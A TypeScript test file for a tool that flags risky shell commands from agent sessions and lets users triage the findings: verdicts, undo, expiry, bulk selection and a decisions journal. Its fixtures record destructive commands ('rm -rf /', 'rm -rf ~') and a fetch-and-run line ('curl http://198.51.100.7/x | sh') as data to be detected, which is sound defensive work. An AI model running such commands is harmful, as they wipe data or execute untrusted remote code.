import assert from "node:assert/strict";
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import type { FindingFilter } from "../../../src/model/findingList.js";
import { RequestError } from "../../../src/protocol/channel.js";
import type { GroupedList } from "../../../src/protocol/findingList.js";
import { type FindingSelection, MOST_DECIDED } from "../../../src/protocol/triage.js";
import { ContentHasher } from "../../../src/store/contentHash.js";
import { countOpenFindings } from "../../../src/store/queries/findings.js";
import { listGroupCalls, listGroups } from "../../../src/store/queries/groups.js";
import { bash, session } from "../store/records.js";
import { DAY, NOON, TriageStore } from "./triageStore.js";

const YESTERDAY = NOON - DAY / 2;
const at = (timeStart: number): { timeStart: number; timeCreated: number } => ({ timeStart, timeCreated: timeStart });
const wipe = (id: string, sessionId: string, time = YESTERDAY): ReturnType<typeof bash> => bash(id, sessionId, "rm -rf /", at(time));
const grouped = (state: FindingFilter["state"], by: "session" | "technique" = "session"): GroupedList => ({
  by, order: "risk", zoneMinutes: 0, filter: { minLevel: "low", text: "", tool: "", project: "", state, since: null, folders: [] },
});
const inList = (value: string | null): FindingSelection => ({ kind: "lists", lists: [{ list: grouped(null), value }], calls: [] });
const failsWith = (failure: string) => (error: unknown): boolean => error instanceof RequestError && error.failure === failure;

describe("a verdict", () => {
  let folder: string;
  let triage: TriageStore;
  beforeEach(async () => {
    folder = mkdtempSync(join(tmpdir(), "spotter-verdicts-"));
    triage = await TriageStore.open(join(folder, "spotter.db"));
    await triage.read([session("ses_a"), session("ses_b"), wipe("prt_a", "ses_a"), wipe("prt_b", "ses_b"), bash("prt_c", "ses_b", "curl http://198.51.100.7/x | sh", at(YESTERDAY))]);
  });
  afterEach(async () => {
    await triage.close();
    rmSync(folder, { recursive: true });
  });

  const decide = (call: string, verdict: "acknowledged" | "false-positive" | "accepted-risk" | "resolved" | "open", expires: number | null = null): { decided: number; act: string } =>
    triage.ask.decide({ selection: { kind: "calls", ids: [call] }, expected: null, verdict, reason: "known", expires });

  it("settles its finding and no other, is taken back by its act, and comes back where that is taken back", () => {
    const { decided, act } = decide("prt_a", "false-positive");
    assert.deepEqual([decided, triage.states()], [1, { prt_a: "false-positive", prt_b: "open", prt_c: "open" }]);
    assert.deepEqual(triage.ask.undo({ decision: act }), { undone: 1 });
    assert.equal(triage.of("prt_a").state, "open");
    const [undoing] = triage.ask.listDecisions({ filter: { findingId: null, judgements: true }, after: null, limit: 9 }).rows;
    triage.ask.undo({ decision: undoing!.id });
    assert.equal(triage.of("prt_a").state, "false-positive");
    assert.throws(() => triage.ask.undo({ decision: undoing!.id }), failsWith("not-found"));
  });

  it("is the newest that stands: what was decided before comes back when it is taken back", () => {
    decide("prt_a", "acknowledged");
    const { act } = decide("prt_a", "accepted-risk");
    assert.equal(triage.of("prt_a").state, "accepted-risk");
    triage.ask.undo({ decision: act });
    assert.equal(triage.of("prt_a").state, "acknowledged");
    decide("prt_a", "open");
    assert.equal(triage.of("prt_a").state, "open");
  });

  it("ends when it expires, and tells of the session", () => {
    decide("prt_a", "accepted-risk", NOON + 1_000);
    triage.clock.now = NOON + 999;
    assert.deepEqual([[...triage.store.states.expire()], triage.of("prt_a").state], [[], "accepted-risk"]);
    triage.clock.now = NOON + 1_000;
    assert.deepEqual([[...triage.store.states.expire()], triage.of("prt_a").state], [["ses_a"], "open"]);
  });

  it("on a finding that scoring ended is refused as such, as a comment and a suppression are, with what to do; nothing is recorded", async () => {
    const { id } = triage.of("prt_a");
    await triage.read([bash("prt_a", "ses_a", "ls", at(YESTERDAY))]);
    const orders: ReadonlyArray<() => unknown> = [
      () => triage.ask.decide({ selection: { kind: "findings", ids: [id] }, expected: null, verdict: "resolved", reason: "", expires: null }),
      () => triage.ask.comment({ findingId: id, text: "so" }),
      () => triage.ask.suppressionOffers({ findingId: id, callId: null, folders: [] }),
      () => triage.ask.suppress({ findingId: id, scope: { kind: "everywhere" }, expected: null, reason: "ours", expires: null, critical: true }),
    ];
    for (const order of orders) assert.throws(order, { failure: "ended", message: /Nothing was decided\. List the findings again\.$/ });
    assert.equal(triage.ask.listDecisions({ filter: { findingId: null, judgements: true }, after: null, limit: 9 }).total, 0);
  });

  it("that ends brings no earlier one back", () => {
    decide("prt_a", "false-positive");
    decide("prt_a", "acknowledged", NOON + 1_000);
    triage.clock.now = NOON + 1_000;
    triage.store.states.expire();
    assert.equal(triage.of("prt_a").state, "open");
  });

  it("is refused with an expiry that has passed, and nothing is recorded", () => {
    assert.throws(() => decide("prt_a", "accepted-risk", NOON), failsWith("past"));
    assert.deepEqual([triage.of("prt_a").state, triage.ask.listDecisions({ filter: { findingId: null, judgements: true }, after: null, limit: 9 }).total], ["open", 0]);
  });

  it("that says resolved lapses when the same happens again in the session, and others do not", async () => {
    decide("prt_a", "resolved");
    decide("prt_b", "false-positive");
    await triage.read([wipe("prt_a2", "ses_a", NOON + 5), wipe("prt_b2", "ses_b", NOON + 5)]);
    assert.deepEqual([triage.of("prt_a").state, triage.of("prt_b").state], ["open", "false-positive"]);
  });

  it("that says resolved lapses by what the finding had then, whatever the clock says, also for a call that was read late", async () => {
    triage.clock.now = NOON + 365 * DAY;
    decide("prt_a", "resolved");
    triage.clock.now = NOON;
    await triage.read([wipe("prt_late", "ses_a", YESTERDAY + 1)]);
    assert.equal(triage.of("prt_a").state, "open");
  });

  it("that says resolved leaves its finding unread when the same happens again, until that is seen, also in an index built anew", async () => {
    const unread = (of: TriageStore): number => of.store.db.count("SELECT count(*) FROM finding WHERE state = 'open' AND read_at IS NULL");
    const critical = (of: TriageStore): number => countOpenFindings(of.store.db, { since: 0, folders: [] }).unreadCritical;
    const see = (): unknown => triage.store.decisions.record([{ kind: "read", findings: triage.findings().map(({ id }) => id) }]);
    const rebuilt = async (): Promise<number> => {
      rmSync(join(folder, "spotter.db"), { force: true });
      const anew = await TriageStore.open(join(folder, "spotter.db"), { ...triage.clock });
      await anew.read([session("ses_a"), session("ses_b"), wipe("prt_a", "ses_a"), wipe("prt_a2", "ses_a", NOON + 5), wipe("prt_b", "ses_b"), bash("prt_c", "ses_b", "curl http://198.51.100.7/x | sh", at(YESTERDAY))]);
      return unread(anew);
    };
    see();
    decide("prt_a", "resolved");
    assert.deepEqual([unread(triage), critical(triage)], [0, 0]);
    triage.clock.now = NOON + 10;
    await triage.read([wipe("prt_a2", "ses_a", NOON + 5)]);
    assert.deepEqual([unread(triage), critical(triage), await rebuilt()], [1, 1, 1]);
    see();
    await triage.read([wipe("prt_a3", "ses_a", NOON + 20)]);
    assert.deepEqual([unread(triage), critical(triage), await rebuilt()], [0, 0, 0]);
  });

  it("that says resolved leaves its finding unread for a call that was read late: who saw the finding did not see that", async () => {
    triage.clock.now = NOON + DAY;
    decide("prt_a", "resolved");
    await triage.read([wipe("prt_late", "ses_a", YESTERDAY + 1)]);
    assert.equal(triage.store.db.count("SELECT count(*) FROM finding WHERE id = ? AND read_at IS NULL", triage.of("prt_a").id), 1);
  });

  it("on a fork's finding holds for that of what it copied, which is read later", async () => {
    const copied = { callId: "copied", timeStart: YESTERDAY, timeCreated: YESTERDAY };
    await triage.read([session("ses_fork", { timeCreated: 5_000 }), bash("prt_fork", "ses_fork", "rm -rf ~", copied)]);
    decide("prt_fork", "accepted-risk");
    await triage.read([session("ses_whole", { timeCreated: 100 }), bash("prt_whole", "ses_whole", "rm -rf ~", copied)]);
    assert.deepEqual([triage.of("prt_whole").call.sessionId, triage.of("prt_whole").state], ["ses_whole", "accepted-risk"]);
  });

  it("is seen, and stays seen, in a session that is left out and comes back", async () => {
    decide("prt_a", "acknowledged");
    await triage.read([{ kind: "sessionExcluded", sessionId: "ses_a" }]);
    await triage.read([session("ses_a"), wipe("prt_a", "ses_a")]);
    assert.deepEqual(triage.store.db.all("SELECT state, read_at FROM finding WHERE id = ?", triage.of("prt_a").id), [{ state: "acknowledged", read_at: NOON }]);
  });

  it("takes its calls out of lists that do not ask for them, of calls that come later, too, and gives them back", async () => {
    const listed = (state: FindingFilter["state"]): string[] => ["ses_a", "ses_b"].flatMap((id) => listGroupCalls(triage.store.db, grouped(state), id, null, 9).rows.map((call) => call.id)).sort();
    const { act } = decide("prt_a", "false-positive");
    await triage.read([wipe("prt_a2", "ses_a", NOON + 5)]);
    assert.deepEqual([listed(null), listed("any"), listed("false-positive")], [["prt_b", "prt_c"], ["prt_a", "prt_a2", "prt_b", "prt_c"], ["prt_a", "prt_a2"]]);
    const techniques = listGroups(triage.store.db, grouped(null, "technique"), null, 9).rows;
    const wiped = triage.of("prt_a").call.techniques[0]!;
    assert.equal(techniques.find(({ value }) => value === wiped)?.calls, 1, "the call of the other session");
    triage.ask.undo({ decision: act });
    assert.deepEqual(listed(null), ["prt_a", "prt_a2", "prt_b", "prt_c"]);
    decide("prt_b", "acknowledged");
    assert.deepEqual(listed(null), ["prt_a", "prt_a2", "prt_b", "prt_c"], "what is acknowledged is still to be done");
  });

  it("on several groups and calls is for the findings of all of them, each once", () => {
    const selection: FindingSelection = { kind: "lists", lists: [{ list: grouped(null), value: "ses_b" }, { list: grouped(null, "technique"), value: triage.of("prt_c").call.techniques[0]! }], calls: ["prt_a", "prt_b"] };
    assert.equal(triage.ask.previewSelection({ selection, verdict: "resolved" }).findings, 3);
    assert.equal(triage.ask.decide({ selection, expected: null, verdict: "resolved", reason: "", expires: null }).decided, 3);
  });

  it("that reopens a list is for those on which something was decided, also where the list leaves them out, and for no other", async () => {
    await triage.read([bash("prt_c2", "ses_b", "curl http://198.51.100.7/x | sh", at(YESTERDAY + 5))]);
    const reopen = (selection: FindingSelection): number => triage.ask.previewSelection({ selection, verdict: "open" }).findings;
    assert.deepEqual([reopen(inList(null)), triage.ask.previewSelection({ selection: inList(null), verdict: "resolved" }).findings], [0, 3]);
    decide("prt_a", "false-positive");
    decide("prt_b", "acknowledged");
    triage.ask.suppress({ findingId: triage.of("prt_c").id, scope: { kind: "call", callId: "prt_c", sessionId: "ses_b" }, expected: null, reason: "ours", expires: null, critical: false });
    assert.deepEqual([reopen(inList(null)), reopen(inList("ses_b")), reopen({ kind: "lists", lists: [{ list: grouped("acknowledged"), value: null }], calls: [] })], [3, 2, 1]);
    assert.equal(triage.ask.decide({ selection: inList("ses_a"), expected: null, verdict: "open", reason: "", expires: null }).decided, 1);
    assert.equal(triage.of("prt_a").state, "open");
    triage.ask.decide({ selection: inList("ses_b"), expected: null, verdict: "open", reason: "", expires: null });
    assert.deepEqual(listGroupCalls(triage.store.db, grouped(null), "ses_b", null, 9).rows.map(({ id }) => id).sort(), ["prt_b", "prt_c", "prt_c2"]);
    assert.equal(reopen(inList(null)), 0);
  });

  it("that reopens calls and findings is for those on which something was decided alone, and is refused where that is none", () => {
    decide("prt_a", "false-positive");
    const calls: FindingSelection = { kind: "calls", ids: ["prt_a", "prt_b", "prt_c"] };
    const findings: FindingSelection = { kind: "findings", ids: ["prt_a", "prt_b", "prt_c"].map((id) => triage.of(id).id) };
    for (const selection of [calls, findings, { ...inList("ses_b"), calls: calls.ids } as FindingSelection]) {
      assert.deepEqual(triage.ask.previewSelection({ selection, verdict: "open" }).sample.map(({ call }) => call.id), ["prt_a"]);
    }
    assert.equal(triage.ask.decide({ selection: findings, expected: null, verdict: "open", reason: "", expires: null }).decided, 1);
    assert.throws(() => triage.ask.decide({ selection: calls, expected: null, verdict: "open", reason: "", expires: null }), failsWith("changed"));
    assert.deepEqual(triage.ask.listDecisions({ filter: { findingId: triage.of("prt_b").id, judgements: true }, after: null, limit: 9 }).rows, []);
  });

  it("is refused on more findings than are decided at once, before a question is asked, and nothing is recorded", () => {
    triage.store.db.run(
      `WITH RECURSIVE count (n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM count WHERE n < ?)
       INSERT INTO finding_call (tool_call_id, finding_id) SELECT 'prt_a', 'finding' || n FROM count`,
      MOST_DECIDED,
    );
    for (const selection of [inList(null), inList("ses_a")]) {
      assert.throws(() => triage.ask.previewSelection({ selection, verdict: "resolved" }), failsWith("too-many"));
      assert.throws(() => triage.ask.decide({ selection, expected: null, verdict: "resolved", reason: "", expires: null }), failsWith("too-many"));
    }
    assert.equal(triage.ask.listDecisions({ filter: { findingId: null, judgements: true }, after: null, limit: 9 }).total, 0);
    assert.equal(triage.ask.previewSelection({ selection: inList("ses_b"), verdict: "resolved" }).findings, 2);
  });

  it("on a selection is refused where other findings are there than were shown", () => {
    const selection = inList(null);
    assert.equal(triage.ask.previewSelection({ selection, verdict: "resolved" }).findings, 3);
    const expected = triage.ask.previewSelection({ selection, verdict: "resolved" }).digest;
    // As many as before, and others.
    triage.store.db.run("UPDATE finding SET id = 'another' WHERE id = ?", triage.of("prt_a").id);
    triage.store.db.run("UPDATE finding_call SET finding_id = 'another' WHERE tool_call_id = 'prt_a'");
    assert.throws(() => triage.ask.decide({ selection, expected, verdict: "resolved", reason: "", expires: null }), { failure: "changed", message: /, so nothing was decided\. Do it again, and look at what is shown then\.$/ });
    assert.equal(triage.ask.decide({ selection, expected: triage.ask.previewSelection({ selection, verdict: "resolved" }).digest, verdict: "resolved", reason: "", expires: null }).decided, 3);
    assert.throws(() => triage.ask.decide({ selection, expected: null, verdict: "resolved", reason: "", expires: null }), failsWith("ended"));
  });

  it("on many is one act, all of it undone at once, and each finding has it in its history", () => {
    const { act } = triage.ask.decide({ selection: inList("ses_b"), expected: null, verdict: "accepted-risk", reason: "ours", expires: null });
    triage.ask.comment({ findingId: triage.of("prt_b").id, text: "see the runbook" });
    assert.deepEqual(triage.states(), { prt_a: "open", prt_b: "accepted-risk", prt_c: "accepted-risk" });
    const history = triage.ask.listDecisions({ filter: { findingId: triage.of("prt_b").id, judgements: true }, after: null, limit: 9 }).rows;
    assert.deepEqual(history.map(({ kind, reason, actor }) => [kind, reason, actor]), [["note", "see the runbook", "ada"], ["verdict", "ours", "ada"]]);
    assert.deepEqual(triage.ask.undo({ decision: act }), { undone: 2 });
    assert.deepEqual(triage.states(), { prt_a: "open", prt_b: "open", prt_c: "open" });
  });

  it("marks what it decides as seen", () => {
    decide("prt_a", "acknowledged");
    assert.deepEqual(triage.store.db.all("SELECT finding_id FROM finding_read").map((row) => row["finding_id"]), [triage.of("prt_a").id]);
  });

  it("keeps no control characters of its reason", () => {
    triage.ask.decide({ selection: { kind: "calls", ids: ["prt_a"] }, expected: null, verdict: "resolved", reason: "fixed\u001b[2J\r\n in \u0000main", expires: null });
    assert.equal(triage.ask.listDecisions({ filter: { findingId: null, judgements: true }, after: null, limit: 1 }).rows[0]!.reason, "fixed [2J in main");
  });
});

describe("decisions of a newer version", () => {
  it("are kept, hold for nothing, are told, and are written again with the journal", async () => {
    const folder = mkdtempSync(join(tmpdir(), "spotter-newer-"));
    const path = join(folder, "spotter.db");
    const before = await TriageStore.open(path);
    await before.read([session("ses_a"), wipe("prt_a", "ses_a"), session("ses_b"), wipe("prt_b", "ses_b")]);
    const finding = before.of("prt_a").id;
    before.ask.decide({ selection: { kind: "findings", ids: [finding] }, expected: null, verdict: "acknowledged", reason: "", expires: null });
    await before.close();
    const journal = `${path}.decisions.jsonl`;
    const hasher = await ContentHasher.create();
    const newer = [
      { id: "n1", at: NOON + 1, actor: "bob", kind: "verdict", finding, state: "delegated", reason: "", expires: null },
      { id: "n2", at: NOON + 2, actor: "bob", kind: "escalate", finding, to: "eve" },
      { id: "n3", at: NOON + 3, actor: "bob", kind: "verdict", finding, state: "resolved", reason: "", expires: null, about: { sessionId: 7, projectId: "project", level: "extreme" } },
    ];
    writeFileSync(journal, readFileSync(journal, "utf8") + newer.map((decision) => `${hasher.of(JSON.stringify(decision)).slice(0, 16)} ${JSON.stringify(decision)}\n`).join(""));
    const after = await TriageStore.open(path);
    assert.deepEqual(after.store.notices, [{ kind: "journal-newer", decisions: 3 }]);
    assert.equal(after.of("prt_a").state, "acknowledged");
    const listed = after.ask.listDecisions({ filter: { findingId: null, judgements: true }, after: null, limit: 3 }).rows;
    assert.deepEqual(listed.map(({ id, kind, undoable }) => [id, kind, undoable]), [["n3", "newer", false], ["n2", "newer", false], ["n1", "newer", false]]);
    const backup = join(folder, "backup.db");
    await after.backUp(backup);
    await after.restore(backup);
    assert.equal(after.of("prt_a").state, "acknowledged");
    // Forgetting writes the journal anew.
    after.store.forget({ kind: "session", sessionId: "ses_b" });
    assert.match(readFileSync(journal, "utf8"), /"state":"delegated"[^]*"kind":"escalate"[^]*"level":"extreme"/);
    // Where it names something else in a session's place, that is not taken for one.
    after.store.forget({ kind: "project", projectId: "project" });
    assert.match(readFileSync(journal, "utf8"), /"kind":"forget","scope":\{"kind":"project","projectId":"project"\},"extent":\{"before":\d+,"sessions":\["ses_a"\]\}/);
    await after.close();
    rmSync(folder, { recursive: true });
  });

  it("hold once this version is as new", async () => {
    const folder = mkdtempSync(join(tmpdir(), "spotter-newer-"));
    const path = join(folder, "spotter.db");
    const before = await TriageStore.open(path);
    await before.read([session("ses_a"), wipe("prt_a", "ses_a")]);
    before.ask.decide({ selection: { kind: "calls", ids: ["prt_a"] }, expected: null, verdict: "false-positive", reason: "ours", expires: null });
    // As an older version had kept it.
    before.store.db.run("UPDATE decision SET kind = 'newer', finding_id = NULL WHERE kind = 'verdict'");
    before.store.db.run("UPDATE finding SET state = 'open'");
    before.store.markDirty();
    await before.close();
    const after = await TriageStore.open(path);
    assert.equal(after.of("prt_a").state, "false-positive");
    await after.close();
    rmSync(folder, { recursive: true });
  });
});

describe("the finding that follows another one", () => {
  let folder: string;
  let triage: TriageStore;
  beforeEach(async () => {
    folder = mkdtempSync(join(tmpdir(), "spotter-next-"));
    triage = await TriageStore.open(join(folder, "spotter.db"));
    await triage.read([session("ses_a"), session("ses_b"), wipe("prt_a", "ses_a", YESTERDAY - 1), wipe("prt_b", "ses_b"), bash("prt_c", "ses_b", "curl http://198.51.100.7/x | sh", at(YESTERDAY))]);
  });
  afterEach(async () => {
    await triage.close();
    rmSync(folder, { recursive: true });
  });

  const next = (from: string | null, by: 1 | -1 = 1, filter: Partial<FindingFilter> = {}): string | null => {
    const list = grouped(null);
    return triage.ask.nextFinding({ list: { ...list, filter: { ...list.filter, ...filter, folders: [] } }, from: from && triage.of(from).id, by })?.call.id ?? null;
  };
  const walked = (filter: Partial<FindingFilter> = {}): string[] => {
    const found: string[] = [];
    for (let at = next(null, 1, filter); at !== null; at = next(at, 1, filter)) found.push(at);
    return found;
  };

  it("is the next one in the order of how bad they are, forth and back, also from one that was decided", () => {
    const all = triage.findings().map(({ call }) => call.id);
    assert.deepEqual(walked(), all);
    assert.deepEqual([next(all[0]!, -1), next(all[1]!, -1), next(all[2]!, -1), next(null, -1)], [null, all[0], all[1], null]);
    triage.ask.decide({ selection: { kind: "calls", ids: [all[1]!] }, expected: null, verdict: "resolved", reason: "", expires: null });
    assert.deepEqual([walked(), next(all[1]!), next(all[1]!, -1)], [[all[0], all[2]], all[2], all[0]]);
  });

  it("is one that the list holds: by its tool, its time and its state", () => {
    assert.deepEqual([walked({ tool: "bash" }).length, walked({ tool: "webfetch" })], [3, []]);
    assert.deepEqual(walked({ since: YESTERDAY }).sort(), ["prt_b", "prt_c"]);
    triage.ask.decide({ selection: { kind: "calls", ids: ["prt_a"] }, expected: null, verdict: "resolved", reason: "", expires: null });
    assert.deepEqual([walked({ state: "resolved" }), walked({ state: "any" }).includes("prt_a")], [["prt_a"], false]);
  });
});
